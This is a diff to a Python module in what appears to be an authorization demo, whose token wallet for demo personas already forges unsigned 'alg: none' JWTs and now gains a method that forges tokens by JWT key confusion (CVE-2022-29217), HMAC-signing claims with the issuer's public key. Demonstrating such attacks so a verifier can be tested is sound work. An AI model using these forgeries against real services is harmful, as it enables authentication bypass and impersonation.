@@ -1,15 +1,18 @@
 """Credentials for the cast: tokens from the development issuer, and the attacker's own."""
 
 import base64
+import hmac
 import http.client
 import json
 import time
 from collections.abc import Mapping
 from dataclasses import dataclass
+from typing import Any
 from urllib.parse import urlencode, urlsplit
 
 import jwt
 from cryptography.hazmat.primitives.asymmetric import rsa
+from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
 
 from authz.demo.ca import CertificateFiles
 from authz.demo.cast import AUDIENCE, Person
@@ -28,7 +31,7 @@ class Wallet:
     def token(self, person: Person, **form: str) -> str:
         """A token for `person` as a password grant gives it; `form` adds what the development issuer understands."""
         answer = self._post(
-            f"{urlsplit(self.issuer_url).path}/v1/token",
+            _path(self.issuer_url, "/v1/token"),
             {"grant_type": "password", "username": person.username, **form},
         )
         return str(answer["access_token"])
@@ -48,6 +51,18 @@ class Wallet:
         header = {"alg": "none", "typ": "at+jwt"}
         return f"{_segment(header)}.{_segment(self._claims(person))}."
 
+    def confused(self, person: Person) -> str:
+        """Key confusion: HS256, with the text of the issuer's public key as the secret (PyJWT CVE-2022-29217)."""
+        real = jwt.get_unverified_header(self.token(person))
+        public = next(
+            key
+            for key in jwt.PyJWKSet.from_dict(self._get(_path(self.issuer_url, "/v1/keys"))).keys
+            if key.key_id == real["kid"]
+        )
+        pem = public.key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
+        signed = f"{_segment({**real, 'alg': 'HS256'})}.{_segment(self._claims(person))}"
+        return f"{signed}.{_base64(hmac.digest(pem, signed.encode(), 'sha256'))}"
+
     def _claims(self, person: Person) -> dict[str, object]:
         now = int(time.time())
         return {
@@ -59,14 +74,18 @@ class Wallet:
             "groups": list(person.groups),
         }
 
-    def _post(self, path: str, form: dict[str, str]) -> dict[str, object]:
+    def _get(self, path: str) -> dict[str, Any]:
+        return self._exchange("GET", path, None)
+
+    def _post(self, path: str, form: dict[str, str]) -> dict[str, Any]:
+        return self._exchange("POST", path, urlencode(form))
+
+    def _exchange(self, method: str, path: str, body: str | None) -> dict[str, Any]:
         connection = http.client.HTTPConnection(urlsplit(self.issuer_url).netloc, timeout=TIMEOUT_SECONDS)
         try:
-            connection.request(
-                "POST", path, urlencode(form), {"Content-Type": "application/x-www-form-urlencoded"}
-            )
+            connection.request(method, path, body, {"Content-Type": "application/x-www-form-urlencoded"})
             response = connection.getresponse()
-            answer: dict[str, object] = json.loads(response.read())
+            answer: dict[str, Any] = json.loads(response.read())
         finally:
             connection.close()
         if response.status != 200:
@@ -75,4 +94,12 @@ class Wallet:
 
 
 def _segment(value: Mapping[str, object]) -> str:
-    return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()
+    return _base64(json.dumps(value).encode())
+
+
+def _base64(data: bytes) -> str:
+    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()
+
+
+def _path(url: str, rest: str) -> str:
+    return urlsplit(url).path + rest
